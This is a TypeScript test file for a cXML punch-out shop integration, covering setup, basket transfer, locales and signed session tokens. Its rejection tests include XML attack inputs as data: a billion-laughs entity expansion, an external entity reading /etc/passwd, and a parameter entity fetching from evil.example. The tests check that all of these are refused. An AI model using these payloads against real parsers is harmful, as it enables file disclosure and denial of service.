import { afterEach, expect, test, vi } from "vitest";
import { decodeFragment } from "../../app/features/list/sharing/share-link.ts";
import { hrefOf } from "../../app/ground/i18n/href.ts";
import { LIVE_LOCALES } from "../../app/ground/i18n/locales.ts";
import { serverTexts, serverTranslator } from "../../app/ground/i18n/server-translator.ts";
import { withoutDocumentType } from "../../tools/platform/xml/document-type.ts";
import { parseXml, type XmlElement } from "../../tools/platform/xml/parse-xml.ts";
import { handleSetup } from "../../workers/punch-out/cxml/handle-setup.ts";
import { handleEntry } from "../../workers/punch-out/handle-entry.ts";
import { handleTransfer } from "../../workers/punch-out/handle-transfer.ts";
import { publishedSample } from "../catalogue/local-d1.ts";
import { sampleProducts } from "../sample.ts";
import { type Asked, itemOut, requestOf, SYSTEMS } from "./cxml-requests.ts";
import { readForm, sessionIn } from "./oci-receiver.ts";

const SITE = "https://www.klemma.example";
const SECRETS = { CXML_HANSE: "secret of Hanse", CXML_OSTSEE: "secret of Ostsee" };
const readKey = async () => "key";
const FORM_POST = "https://srm.hanse-anlagenbau.example/punchout?client=NAwl4Jo&id=2";

afterEach(() => vi.useRealTimers());

const childOf = (element: XmlElement | undefined, name: string) =>
  element?.children.find((child): child is XmlElement => typeof child !== "string" && child.name === name);
const at = (element: XmlElement | undefined, ...path: string[]) => path.reduce(childOf, element);
const textAt = (element: XmlElement | undefined, ...path: string[]) => at(element, ...path)?.children.join("") ?? "";
const namesIn = (element: XmlElement | undefined) =>
  element?.children.flatMap((child) => (typeof child === "string" ? [] : [child.name]));
const readDocument = (xml: string) => parseXml(withoutDocumentType(xml) ?? "");

async function setUp(xml: string | Uint8Array<ArrayBuffer>, secrets: Partial<typeof SECRETS> = SECRETS) {
  const request = new Request(`${SITE}/punch-out/cxml`, { method: "POST", body: xml });
  const response = await handleSetup(request, secrets, readKey);
  const { status, headers } = response;
  const answer = at(readDocument(await response.text()), "Response");
  const { code = "", text = "" } = at(answer, "Status")?.attributes ?? {};
  return {
    ...{ status, type: headers.get("content-type"), cache: headers.get("cache-control"), code: Number(code), text },
    reason: textAt(answer, "Status"),
    startPage: textAt(answer, "PunchOutSetupResponse", "StartPage", "URL"),
  };
}

const enter = (startPage: string, language = "en") =>
  handleEntry(new Request(startPage, { headers: { "accept-language": language } }), readKey);

async function transfer(parameters: Readonly<Record<string, string>>, lines: unknown, locale = "en") {
  const body = new FormData();
  for (const [name, value] of Object.entries({ ...parameters, lines: JSON.stringify(lines) })) body.set(name, value);
  const request = new Request(`${SITE}/punch-out/${locale}`, { method: "POST", body });
  const response = await handleTransfer(await publishedSample(), request, readKey);
  return { response, html: await response.text() };
}

test.each(Object.keys(SYSTEMS))("a user of %s gets the list back as the basket of the visit", async (system) => {
  const answer = await setUp(new TextEncoder().encode(requestOf(system)));
  expect(answer).toMatchObject({
    status: 200,
    code: 200,
    text: "OK",
    type: "text/xml; charset=utf-8",
    cache: "no-store",
  });
  expect(new URL(answer.startPage).pathname).toBe("/punch-out");

  const entry = await (await enter(answer.startPage)).text();
  expect(entry).toContain(`href="${hrefOf("products", "en")}"`);
  const session = sessionIn(entry);
  expect(session.buyer).toBe("Hanse Anlagenbau");

  const { response, html } = await transfer(
    session.parameters,
    [{ code: "1040402", amount: 50, note: "Pano Ğ" }],
    "tr",
  );
  expect(response.headers.get("content-security-policy")).toContain(`form-action ${new URL(FORM_POST).origin};`);
  expect(html).toContain(serverTranslator("tr")("punchOut.zeroPrices"));
  const form = readForm(html);
  expect([form?.action, form?.target, [...(form?.body.keys() ?? [])]]).toEqual([
    FORM_POST,
    "_self",
    ["cxml-urlencoded"],
  ]);
  const xml = form?.body.get("cxml-urlencoded") ?? "";
  expect(xml).toMatch(/^[\t\n -~]*$/);

  const root = readDocument(xml);
  expect(textAt(root, "Header", "To", "Credential", "Identity")).toMatch(/^(340104711|AN01000104711-T)$/);
  const message = at(root, "Message", "PunchOutOrderMessage");
  expect(namesIn(message)).toEqual(["BuyerCookie", "PunchOutOrderMessageHeader", "ItemIn"]);
  expect(textAt(message, "BuyerCookie")).toBe("1CX3L4843PPZO");
  const header = at(message, "PunchOutOrderMessageHeader");
  const total = at(header, "Total", "Money");
  expect([header?.attributes, total?.attributes, total?.children]).toEqual([
    { operationAllowed: "edit" },
    { currency: "EUR" },
    ["0"],
  ]);
  const item = at(message, "ItemIn");
  expect([item?.attributes, textAt(item, "ItemID", "SupplierPartID")]).toEqual([{ quantity: "50" }, "1040402"]);
  const detail = at(item, "ItemDetail");
  // In the order of the DTD.
  expect(detail?.children.map((child) => typeof child !== "string" && [child.name, child.children.at(-1)])).toEqual([
    ["UnitPrice", at(detail, "UnitPrice", "Money")],
    ["Description", `${sampleProducts().find(({ code }) => code === "1040402")?.name_tr}\nPano Ğ`],
    ["UnitOfMeasure", "EA"],
    ["Classification", "39121410"],
    ["ManufacturerPartID", "KV-4-BL"],
    ["ManufacturerName", "Klemma"],
  ]);
});

test.each(LIVE_LOCALES)("a basket that goes back to be changed opens the list with its lines in %s", async (locale) => {
  const content = [itemOut("1040402", 50), itemOut("6210020", "2.5"), itemOut("Kanal &lt; 40 &amp; Deckel", 3)].join(
    "",
  );
  const { startPage } = await setUp(requestOf("BuyerQuest", { operation: "edit", content }));
  const entry = await enter(startPage, locale);
  expect(entry.headers.get("content-language")).toBe(locale);
  const [, path = "", fragment = ""] = /id="open" href="([^"#]*)(#[^"]*)"/.exec(await entry.text()) ?? [];
  expect(path).toBe(hrefOf("orderList", locale));
  expect(await decodeFragment(fragment)).toEqual({
    lines: [
      { code: "1040402", amount: 50, note: "" },
      { code: "6210020", amount: 2.5, note: "" },
      { text: "Kanal < 40 & Deckel × 3" },
    ],
    total: 3,
    isTruncated: false,
  });
});

test("a visit for one product opens that, and five hundred lines fit into an address", async () => {
  const content = "<SelectedItem><ItemID><SupplierPartID>1040402</SupplierPartID></ItemID></SelectedItem>";
  const { startPage } = await setUp(requestOf("SAP Ariba", { content }));
  expect(await (await enter(startPage)).text()).toContain('id="open" href="/id/1040402"');
  const items = sampleProducts()
    .slice(0, 501)
    .map(({ code = "" }, index) => itemOut(code, index * 7 + 1));
  const full = await setUp(requestOf("Coupa", { operation: "edit", content: items.slice(0, 500).join("") }));
  expect([full.code, full.startPage.length < 8000]).toEqual([200, true]);
  expect(await setUp(requestOf("Coupa", { operation: "edit", content: items.join("") }))).toMatchObject({ code: 400 });
});

const LAUGHS = `<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd" [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]>`;
const coupa = (asked: Asked) => requestOf("Coupa", asked);
const withType = (type: string) => coupa({ buyerCookie: "&c;" }).replace(/<!DOCTYPE[^>]*>/, type);
test.each<[name: string, xml: string, code: number, reason: RegExp]>([
  ["another buyer's secret", coupa({ secret: SECRETS.CXML_OSTSEE }), 401, /shared secret/],
  ["no secret", coupa({ secret: "" }), 401, /shared secret/],
  ["a buyer that nobody knows", coupa({ identity: "1" }), 401, /no such buyer/],
  ["a known number of another domain", coupa({ identity: "AN01000104711" }), 401, /no such buyer/],
  ["no agreement on prices", coupa({ identity: "340204812", secret: SECRETS.CXML_OSTSEE }), 412, /no prices/],
  ["an address of nobody's", coupa({ browserFormPost: "https://evil.example/" }), 403, /not at a host/],
  [
    "an address of another buyer's",
    coupa({ browserFormPost: "https://einkauf.ostsee-energietechnik.example/" }),
    403,
    /host/,
  ],
  [
    "an address without TLS",
    coupa({ browserFormPost: FORM_POST.replace("https", "http").replace("&", "&amp;") }),
    403,
    /host/,
  ],
  ["no address", coupa({ browserFormPost: "" }), 400, /BrowserFormPost/],
  ["an operation that there is not", coupa({ operation: "inspect" }), 450, /create and edit, not “inspect”/],
  ["no cookie", coupa({ buyerCookie: "" }), 400, /BuyerCookie/],
  ["entities that grow", withType(LAUGHS), 406, /document type/],
  [
    "an entity that names a file",
    withType('<!DOCTYPE cXML [<!ENTITY c SYSTEM "file:///etc/passwd">]>'),
    406,
    /document type/,
  ],
  [
    "an entity of a parameter",
    withType('<!DOCTYPE cXML [<!ENTITY % c SYSTEM "https://evil.example/x"> %c;]>'),
    406,
    /type/,
  ],
  ["an entity that only the DTD could have", coupa({ buyerCookie: "&c;" }), 406, /entity/],
  ["an entity named like what every object has", coupa({ buyerCookie: "&toString;" }), 406, /entity/],
  // In an attribute, which the parser leaves to be read.
  ["three hundred thousand ampersands", `<cXML a="${"&".repeat(300_000)}"/>`, 406, /entity/],
  ["two document types", withType('<!DOCTYPE cXML SYSTEM "a"><!DOCTYPE cXML SYSTEM "b">'), 406, /document type/],
  ["another request", coupa({}).replaceAll("PunchOutSetupRequest", "OrderRequest"), 450, /OrderRequest is not taken/],
  ["no XML", "cxml=1", 406, /not XML/],
  ["no cXML", "<Envelope/>", 406, /not cXML/],
  ["nothing", "", 406, /not XML/],
])("a request with %s is answered by a document that says so", async (_, xml, code, reason) => {
  const answer = await setUp(xml);
  expect(answer).toMatchObject({ status: 200, code, startPage: "" });
  expect(answer.reason).toMatch(reason);
  expect(answer.reason).not.toMatch(/secret of|root:|evil/);
});

test("a buyer whose secret the Worker does not have cannot enter", async () => {
  expect(await setUp(coupa({}), {})).toMatchObject({ code: 401 });
  expect(await setUp(coupa({ secret: "" }), { CXML_HANSE: "" })).toMatchObject({ code: 401 });
  const tooLong = new Request(`${SITE}/punch-out/cxml`, { method: "POST", body: "x".repeat(400_001) });
  expect((await handleSetup(tooLong, SECRETS, readKey)).status).toBe(413);
});

test("a start page that was changed, or is too old, leads nowhere, and a visit ends after a day's work", async () => {
  vi.useFakeTimers({ toFake: ["Date"] });
  const { startPage } = await setUp(coupa({}));
  const { parameters } = sessionIn(await (await enter(startPage)).text());
  const token = new URL(startPage).searchParams.get("cxml") ?? "";
  const [data = "", signature = ""] = token.split(".");
  const { startPage: other } = await setUp(coupa({ buyerCookie: "another" }));
  const foreign = other.replace(/\.[^.]*$/, `.${signature}`);
  const [ended = ""] = serverTexts("ru").refusals.endedVisit;
  for (const changed of [
    foreign,
    startPage.slice(0, -1),
    `${SITE}/punch-out?cxml=`,
    `${SITE}/punch-out?cxml=${data}.`,
    `${SITE}/punch-out?cxml=${data}.${"A".repeat(43)}`,
  ]) {
    const response = await enter(changed, "ru");
    const html = await response.text();
    expect([response.status, html.includes(ended), html.includes("<script")]).toEqual([403, true, false]);
  }

  const lines = [{ code: "1040402", amount: 50 }];
  vi.setSystemTime(Date.now() + 601_000);
  expect((await enter(startPage)).status).toBe(403);
  expect((await transfer(parameters, lines)).response.status).toBe(200);
  expect((await transfer({ cxml: `${token}x` }, lines)).response.status).toBe(403);
  vi.setSystemTime(Date.now() + 12 * 3_600_000);
  expect((await transfer(parameters, lines)).response.status).toBe(403);
});
